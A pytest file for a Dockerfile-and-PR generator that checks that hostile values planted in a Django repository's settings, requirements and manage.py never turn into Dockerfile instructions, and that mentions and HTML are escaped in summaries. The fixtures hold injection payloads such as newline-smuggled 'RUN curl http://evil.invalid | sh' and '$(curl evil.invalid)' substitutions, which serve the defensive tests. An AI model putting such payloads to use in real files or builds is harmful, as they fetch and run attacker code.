"""A PR bot reads strangers' repositories: nothing they contain may reach the Dockerfile as an
instruction, or the pull request as a mention or markup."""

from __future__ import annotations

from pathlib import Path

from generator.core import generate
from generator.detect import detect_path
from generator.facts import Diagnostic, Evidence
from generator.summary import RunReport, decision_log, job_summary

HOSTILE_SETTINGS = """\
import os
INSTALLED_APPS = ["django.contrib.staticfiles"]
STATIC_ROOT = "static\\nRUN curl http://evil.invalid | sh"
MEDIA_ROOT = 'media" && curl evil.invalid && echo "'
WSGI_APPLICATION = "proj.wsgi.application\\nRUN curl http://evil.invalid | sh"
SECRET_KEY = os.environ["SECRET_KEY$(curl evil.invalid)"]
X = os.environ.get("EVIL; curl evil.invalid #")
DATABASES = {"default": {"ENGINE": "django.db.backends.sqlite3", "NAME": "db/$(curl evil.invalid)/x"}}
"""


def test_hostile_values_never_become_dockerfile_instructions(make_tree):
    root = make_tree(
        {
            "manage.py": 'import os\nos.environ.setdefault("DJANGO_SETTINGS_MODULE", "proj.settings")\n',
            "requirements.txt": 'Django>=5.2\n-r "extra\\nRUN curl evil.invalid | sh.txt"\n',
            "proj/__init__.py": "",
            "proj/settings.py": HOSTILE_SETTINGS,
        }
    )
    generated = generate(Path(root))
    dockerfile = generated.files["Dockerfile"]
    assert "evil" not in dockerfile
    assert 'CMD ["gunicorn", "proj.wsgi:application"]' in dockerfile
    warnings = [str(w) for w in generated.facts.warnings]
    assert any("wsgi_application" in w and "not a Python module path" in w for w in warnings)


def test_hostile_settings_module_from_manage_py_is_dropped(make_tree):
    root = make_tree(
        {
            "manage.py": 'import os\nos.environ.setdefault("DJANGO_SETTINGS_MODULE", "x\\nRUN evil")\n'
            "import django\n",
            "requirements.txt": "Django>=5.2\n",
        }
    )
    facts = detect_path(root)
    assert facts.settings.settings_module is None


def test_summary_neutralises_mentions_and_html_from_the_repository():
    log = decision_log([Evidence("static", "a.py", 1, "STATIC_ROOT = '@org/everyone <img src=x>'")])
    assert "@org" not in log and "@\u200borg" in log
    assert "<img" not in log and "&lt;img" in log
    report = RunReport(
        mode="generate",
        project=".",
        facts=None,
        warnings=(Diagnostic("hi @maintainer <b>x</b>", "a.py", 2),),
    )
    summary = job_summary(report)
    assert "@maintainer" not in summary and "<b>" not in summary
